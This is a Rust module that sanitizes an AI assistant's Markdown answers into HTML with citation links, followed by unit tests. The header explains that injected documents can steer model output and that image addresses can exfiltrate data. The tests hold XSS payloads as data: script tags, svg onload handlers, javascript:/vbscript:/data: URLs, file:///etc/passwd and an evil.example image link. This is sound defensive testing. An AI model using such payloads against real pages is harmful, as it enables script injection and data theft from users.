//! An answer's Markdown as HTML that may stand in a page, whoever wrote it.
//!
//! What a model writes can be steered by a document that it read, so nothing of it is trusted: HTML becomes text,
//! images are never loaded (an address can carry data out), links lead to `http`, `https` and `mailto` only.

use std::fmt::Write as _;

use pulldown_cmark::{CodeBlockKind, CowStr, Event, HeadingLevel, LinkType, Options, Parser, Tag, TagEnd, html};

use super::{
    citations::Citation,
    marks::{self, Piece},
};

/// Stand round a mark's number while the Markdown is parsed, so that brackets mean nothing to the parser.
const MARK_OPEN: char = '\u{E000}';
const MARK_CLOSE: char = '\u{E001}';

/// What exceeds so many bytes is not shown.
const LONGEST: usize = 256 << 10;
/// How deep quotations and lists may lie in each other.
const DEEPEST: usize = 32;

/// Turns `markdown` into HTML. Marks that stand for one of `citations` become links to the passage:
/// `<a class="cite" href="/knowledge/{document}?passage={passage}#passage-{passage}" data-passage="{passage}" data-cite="1">1</a>`.
/// Out of sight each says what it stands for, so that it is read out, and whatever is copied keeps its sources.
pub fn render(markdown: &str, citations: &[Citation]) -> String {
    let end = (0..=LONGEST.min(markdown.len())).rev().find(|end| markdown.is_char_boundary(*end)).unwrap_or(0);
    let (markdown, rest) = markdown.split_at(end);
    let prepared = set_marks_apart(markdown, citations);
    let mut renderer =
        Renderer { citations, in_code: false, links: Vec::new(), images: 0, blocks: Vec::new(), events: Vec::new() };
    for event in Parser::new_ext(&prepared, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH) {
        renderer.take(event);
    }
    let mut out = String::with_capacity(markdown.len() * 2);
    html::push_html(&mut out, renderer.events.into_iter());
    if !rest.is_empty() {
        out.push_str("<p>The rest is too long to be shown.</p>\n");
    }
    out
}

/// What a person typed, as HTML: paragraphs and line breaks, nothing else means anything.
pub fn render_plain(text: &str) -> String {
    let paragraphs = text.split("\n\n").map(str::trim).filter(|paragraph| !paragraph.is_empty());
    paragraphs.fold(String::new(), |mut out, paragraph| {
        let _ = writeln!(out, "<p>{}</p>", escape(paragraph).replace('\n', "<br>\n"));
        out
    })
}

fn set_marks_apart(markdown: &str, citations: &[Citation]) -> String {
    let own = |text: &str| text.replace([MARK_OPEN, MARK_CLOSE], "");
    let mut out = String::with_capacity(markdown.len());
    for piece in marks::pieces(markdown) {
        match piece {
            Piece::Text(text) | Piece::Code(text) => out.push_str(&own(text)),
            Piece::Mark { numbers, written } => {
                if numbers.iter().all(|number| citations.iter().any(|citation| citation.number == *number)) {
                    for number in numbers {
                        let _ = write!(out, "{MARK_OPEN}{number}{MARK_CLOSE}");
                    }
                } else {
                    out.push_str(&own(written));
                }
            }
        }
    }
    out
}

struct Renderer<'a> {
    citations: &'a [Citation],
    in_code: bool,
    /// For each link that is open: its host and what was written in it, if it is written.
    links: Vec<Option<(String, String)>>,
    images: usize,
    /// For each quotation, list and item that is open: whether it is written.
    blocks: Vec<bool>,
    events: Vec<Event<'a>>,
}

impl<'a> Renderer<'a> {
    fn take(&mut self, event: Event<'a>) {
        match event {
            Event::Html(text)
            | Event::InlineHtml(text)
            | Event::Text(text)
            // Off in the options; were they on, they would be text.
            | Event::InlineMath(text)
            | Event::DisplayMath(text)
            | Event::FootnoteReference(text) => self.text(&text),
            Event::Code(code) => {
                if let Some(Some((_, written))) = self.links.last_mut() {
                    written.push_str(&code);
                }
                self.events.push(Event::Code(brackets(&code).into()));
            }
            Event::Start(tag) => self.start(tag),
            Event::End(tag) => self.end(tag),
            Event::TaskListMarker(_) => {}
            Event::SoftBreak | Event::HardBreak | Event::Rule => self.events.push(event),
        }
    }

    fn start(&mut self, tag: Tag<'a>) {
        let tag = match tag {
            Tag::HtmlBlock => Tag::Paragraph,
            Tag::Heading { level, .. } => {
                Tag::Heading { level: below_the_page(level), id: None, classes: Vec::new(), attrs: Vec::new() }
            }
            Tag::CodeBlock(kind) => {
                self.in_code = true;
                Tag::CodeBlock(match kind {
                    CodeBlockKind::Fenced(info) => CodeBlockKind::Fenced(language(&info).into()),
                    CodeBlockKind::Indented => CodeBlockKind::Indented,
                })
            }
            Tag::Link { link_type, dest_url, .. } => {
                // A link in a link cannot be; an image's text is no place for one either.
                let address = safe_address(link_type, &dest_url).filter(|_| self.links.is_empty() && self.images == 0);
                self.links.push(address.as_deref().map(|address| (host(address).to_owned(), String::new())));
                if let Some(address) = address {
                    let open = format!(
                        r#"<a href="{}" rel="noopener noreferrer nofollow" target="_blank">"#,
                        escape(&address)
                    );
                    self.events.push(Event::InlineHtml(open.into()));
                }
                return;
            }
            Tag::Image { .. } => {
                self.images += 1;
                return;
            }
            block @ (Tag::BlockQuote(_) | Tag::List(_) | Tag::Item) => {
                let written = self.blocks.len() < DEEPEST;
                self.blocks.push(written);
                if !written {
                    return;
                }
                block
            }
            other => other,
        };
        self.events.push(Event::Start(tag));
    }

    fn end(&mut self, tag: TagEnd) {
        let tag = match tag {
            TagEnd::HtmlBlock => TagEnd::Paragraph,
            TagEnd::Heading(level) => TagEnd::Heading(below_the_page(level)),
            TagEnd::CodeBlock => {
                self.in_code = false;
                TagEnd::CodeBlock
            }
            TagEnd::Link => {
                if let Some(Some((host, text))) = self.links.pop() {
                    if claims_another(&text, &host) {
                        self.events.push(Event::Text(format!(" ({host})").into()));
                    }
                    self.events.push(Event::InlineHtml("</a>".into()));
                }
                return;
            }
            TagEnd::Image => {
                self.images = self.images.saturating_sub(1);
                return;
            }
            block @ (TagEnd::BlockQuote(_) | TagEnd::List(_) | TagEnd::Item) => {
                if self.blocks.pop() != Some(true) {
                    return;
                }
                block
            }
            other => other,
        };
        self.events.push(Event::End(tag));
    }

    fn text(&mut self, text: &str) {
        if let Some(Some((_, written))) = self.links.last_mut() {
            written.push_str(text);
        }
        if self.in_code || self.links.iter().any(Option::is_some) {
            self.events.push(Event::Text(brackets(text).into()));
            return;
        }
        let mut rest = text;
        while let Some((before, after)) = rest.split_once(MARK_OPEN) {
            self.events.push(Event::Text(before.to_owned().into()));
            let (number, after) = after.split_once(MARK_CLOSE).unwrap_or((after, ""));
            if let Some(citation) = self.citations.iter().find(|citation| citation.number.to_string() == number) {
                self.events.push(Event::InlineHtml(anchor(citation).into()));
            }
            rest = after;
        }
        self.events.push(Event::Text(CowStr::from(rest.replace(MARK_CLOSE, ""))));
    }
}

fn anchor(citation: &Citation) -> String {
    let Citation { number, document_id, passage_id, document, locator, .. } = citation;
    let address = passage_id.address(*document_id);
    let place = if locator.is_empty() { document.clone() } else { format!("{document}, {locator}") };
    format!(
        "<a class=\"cite\" href=\"{address}\" data-passage=\"{passage_id}\" data-cite=\"{number}\" title=\"{place}\">\
         <span>[</span>{number}<span>: {place}]</span></a>",
        place = escape(&place)
    )
}

/// The page has its own first and second heading.
fn below_the_page(level: HeadingLevel) -> HeadingLevel {
    match level {
        HeadingLevel::H1 => HeadingLevel::H3,
        HeadingLevel::H2 => HeadingLevel::H4,
        HeadingLevel::H3 => HeadingLevel::H5,
        HeadingLevel::H4 | HeadingLevel::H5 | HeadingLevel::H6 => HeadingLevel::H6,
    }
}

fn language(info: &str) -> String {
    let word = info.split_whitespace().next().unwrap_or_default();
    word.chars().filter(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '+' | '#')).collect()
}

/// The address of a link if it is of a kind that a reader may be led to.
fn safe_address(kind: LinkType, address: &str) -> Option<String> {
    let address: String = address.chars().filter(|c| !matches!(*c, MARK_OPEN | MARK_CLOSE)).collect();
    if kind == LinkType::Email {
        return Some(format!("mailto:{address}"));
    }
    let starts_with =
        |scheme: &str| address.get(..scheme.len()).is_some_and(|start| start.eq_ignore_ascii_case(scheme));
    ["https://", "http://", "mailto:"].into_iter().any(starts_with).then_some(address)
}

/// The host of an address, without `www.`.
fn host(address: &str) -> &str {
    let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or_default();
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    host.strip_prefix("www.").unwrap_or(host)
}

/// Whether a link's text reads like an address on another host than the one that it leads to.
fn claims_another(text: &str, actual: &str) -> bool {
    let is_host = |word: &str| {
        let plain = |c: char| c.is_alphanumeric() || matches!(c, '.' | '-');
        let ending = word.rsplit('.').next().unwrap_or_default();
        word.contains('.')
            && word.chars().all(plain)
            && ending.chars().count() > 1
            && !ending.starts_with(char::is_numeric)
    };
    let words = text.split_whitespace().map(|word| host(word.trim_matches(['(', ')', ',', '.', '"', '\''])));
    words.filter(|word| is_host(word)).any(|word| !word.eq_ignore_ascii_case(actual))
}

fn brackets(text: &str) -> String {
    text.replace(MARK_OPEN, "[").replace(MARK_CLOSE, "]")
}

fn escape(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;").replace('\'', "&#39;")
}

#[cfg(test)]
mod tests {
    use super::{super::citations::tests::passages, *};

    fn plain(markdown: &str) -> String {
        render(markdown, &[])
    }

    #[test]
    fn html_becomes_text() {
        assert_eq!(plain("a <b onclick=\"x()\">b</b>"), "<p>a &lt;b onclick=\"x()\"&gt;b&lt;/b&gt;</p>\n");
        let block = plain("<script>alert(1)</script>\n\n<iframe src=//x>\n\n<!-- c -->\n\n<svg/onload=alert(1)>");
        assert!(
            !block.contains("<script")
                && !block.contains("<iframe")
                && !block.contains("<svg")
                && !block.contains("<!--"),
            "{block}"
        );
        assert!(block.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{block}");
    }

    #[test]
    fn links_lead_only_where_a_reader_may_be_led() {
        for address in [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java&#x0A;script:alert(1)",
            "&#106;avascript:alert(1)",
            "data:text/html;base64,PHNjcmlwdD4=",
            "vbscript:x",
            "//evil.example/x",
            "/chat",
            "file:///etc/passwd",
            "\u{1}javascript:alert(1)",
        ] {
            for markdown in
                [format!("[x]({address})"), format!("[x](<{address}>)"), format!("[x][r]\n\n[r]: {address}")]
            {
                let html = plain(&markdown);
                assert!(!html.contains("<a") && !html.contains("href="), "{markdown}: {html}");
            }
        }
        assert!(!plain("<javascript:alert(1)>").contains("<a"));
        assert_eq!(
            plain("[x](https://example.org/?a=1&b=\"><script>)"),
            "<p><a href=\"https://example.org/?a=1&amp;b=&quot;&gt;&lt;script&gt;\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">x</a></p>\n"
        );
        assert!(plain("<me@example.org>").contains("href=\"mailto:me@example.org\""));
    }

    #[test]
    fn images_are_their_description_and_are_never_loaded() {
        for markdown in
            ["![secret](https://evil.example/?d=1)", "![secret][r]\n\n[r]: https://evil.example/x.png \"t\""]
        {
            assert_eq!(plain(markdown), "<p>secret</p>\n", "{markdown}");
        }
        assert_eq!(
            plain("[![in](http://a/b)](http://c/)"),
            "<p><a href=\"http://c/\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">in</a></p>\n"
        );
        assert_eq!(plain("![a [b](http://c/)](http://d/)"), "<p>a b</p>\n");
    }

    #[test]
    fn a_mark_becomes_a_link_to_its_passage() {
        let citations = passages(&["text"]);
        let Citation { document_id, passage_id, .. } = &citations[0];
        assert_eq!(
            render("Yes [1].", &citations),
            format!(
                "<p>Yes <a class=\"cite\" href=\"/knowledge/{document_id}?passage={passage_id}#passage-{passage_id}\" \
                 data-passage=\"{passage_id}\" data-cite=\"1\" title=\"Handbook, page 1\">\
                 <span>[</span>1<span>: Handbook, page 1]</span></a>.</p>\n"
            )
        );
    }

    #[test]
    fn marks_survive_what_markdown_makes_of_brackets_and_stay_out_of_code() {
        let citations = passages(&["text"]);
        let html = render("Yes [1].\n\n[1]: https://evil.example/", &citations);
        assert_eq!(html.matches("class=\"cite\"").count(), 2, "{html}");
        assert!(!html.contains("href=\"https://evil"), "{html}");

        let html = render(
            "`a[1]`\n\n```js\" onload=x\nb[1]\n```\n\n    c[1]\n\n[see [1]](https://example.org) [2]",
            &citations,
        );
        assert!(!html.contains("cite"), "{html}");
        assert!(
            html.contains("<code>a[1]</code>")
                && html.contains("b[1]")
                && html.contains("c[1]")
                && html.contains("[2]"),
            "{html}"
        );
        assert!(html.contains("class=\"language-js\""), "{html}");
    }

    #[test]
    fn a_hostile_title_stays_in_its_attribute() {
        let mut citations = passages(&["text"]);
        citations[0].document = "\"><img src=x onerror=alert(1)>".to_owned();
        let html = render("[1]", &citations);
        assert!(!html.contains("<img"), "{html}");
    }

    #[test]
    fn private_characters_of_ours_cannot_be_smuggled_in() {
        let citations = passages(&["text"]);
        assert_eq!(render("\u{E000}1\u{E001} &#xE000;7&#xE001;", &citations), "<p>1 7</p>\n");
    }

    #[test]
    fn headings_stand_below_those_of_the_page() {
        assert_eq!(
            plain("# One\n\n## Two {#id .class onclick=x}"),
            "<h3>One</h3>\n<h4>Two {#id .class onclick=x}</h4>\n"
        );
    }

    #[test]
    fn what_a_person_types_is_text() {
        assert_eq!(render_plain("a <b>\nc\n\n*d*"), "<p>a &lt;b&gt;<br>\nc</p>\n<p>*d*</p>\n");
    }
}
